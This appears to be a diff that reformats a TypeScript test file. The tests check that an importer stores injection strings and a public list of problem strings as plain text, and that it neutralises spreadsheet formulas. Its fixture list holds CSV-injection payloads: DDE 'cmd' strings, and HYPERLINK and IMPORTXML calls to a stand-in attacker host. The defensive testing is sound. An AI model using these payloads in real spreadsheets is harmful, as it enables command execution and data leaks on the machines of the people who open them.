@@ -5,11 +5,24 @@ import { injections, naughtyTexts } from "../../support/injections.ts";
 import { running } from "../../support/running.ts";
 import { taken, valueOf } from "./support.ts";
 
-const FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"press\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")"];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","press")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  '=IMPORTXML("http://evil.example","//a")',
+];
 
 describe("a cell with markup", () => {
   it("is stored as what shows and never runs", () => {
-    const { results } = taken(JSON.stringify(injections.map((text, index) => ({ name: `thing ${index}`, kind: "gear", description: text }))));
+    const { results } = taken(
+      JSON.stringify(
+        injections.map((text, index) => ({ name: `thing ${index}`, kind: "gear", description: text })),
+      ),
+    );
     expect(results).toHaveLength(injections.length);
     let described = 0;
     for (const [index, row] of results.entries()) {
@@ -24,22 +37,42 @@ describe("a cell with markup", () => {
 
 describe("a cell with a formula", () => {
   it.each(FORMULAS)("%j stays words as a name, and is no number", formula => {
-    const { results: [row] } = taken(JSON.stringify([{ name: formula, kind: "gear", price: formula, weight: formula }]));
+    const {
+      results: [row],
+    } = taken(JSON.stringify([{ name: formula, kind: "gear", price: formula, weight: formula }]));
     expect(typeof row?.name).toBe("string");
     expect(row?.problems.length, "it is told of").toBeGreaterThan(0);
-    for (const column of ["price", "weight"]) expect(valueOf(row, `system.${column}`) ?? valueOf(row, column)).toBeUndefined();
+    for (const column of ["price", "weight"])
+      expect(valueOf(row, `system.${column}`) ?? valueOf(row, column)).toBeUndefined();
   });
 
   it("is never written where a spreadsheet would calculate it", () => {
-    for (const text of [...FORMULAS, ...naughtyTexts]) expect(shielded(text), text).not.toMatch(/^[=+\-@\t\r]/u);
+    for (const text of [...FORMULAS, ...naughtyTexts])
+      expect(shielded(text), text).not.toMatch(/^[=+\-@\t\r]/u);
   });
 });
 
 describe("any text of the public list", () => {
   it("is a row or an error in its place, and nothing else", () => {
     for (const text of naughtyTexts) {
-      const { results } = taken(JSON.stringify([{ name: "before", kind: "gear" }, { name: text, kind: text, description: text, price: text, qualities: text, "further data": text }, { name: "after", kind: "gear" }]));
-      expect(results.map(({ name }) => name).filter(name => name === "before" || name === "after"), text).toEqual(["before", "after"]);
+      const { results } = taken(
+        JSON.stringify([
+          { name: "before", kind: "gear" },
+          {
+            "name": text,
+            "kind": text,
+            "description": text,
+            "price": text,
+            "qualities": text,
+            "further data": text,
+          },
+          { name: "after", kind: "gear" },
+        ]),
+      );
+      expect(
+        results.map(({ name }) => name).filter(name => name === "before" || name === "after"),
+        text,
+      ).toEqual(["before", "after"]);
     }
     expect("polluted" in {}).toBe(false);
   });
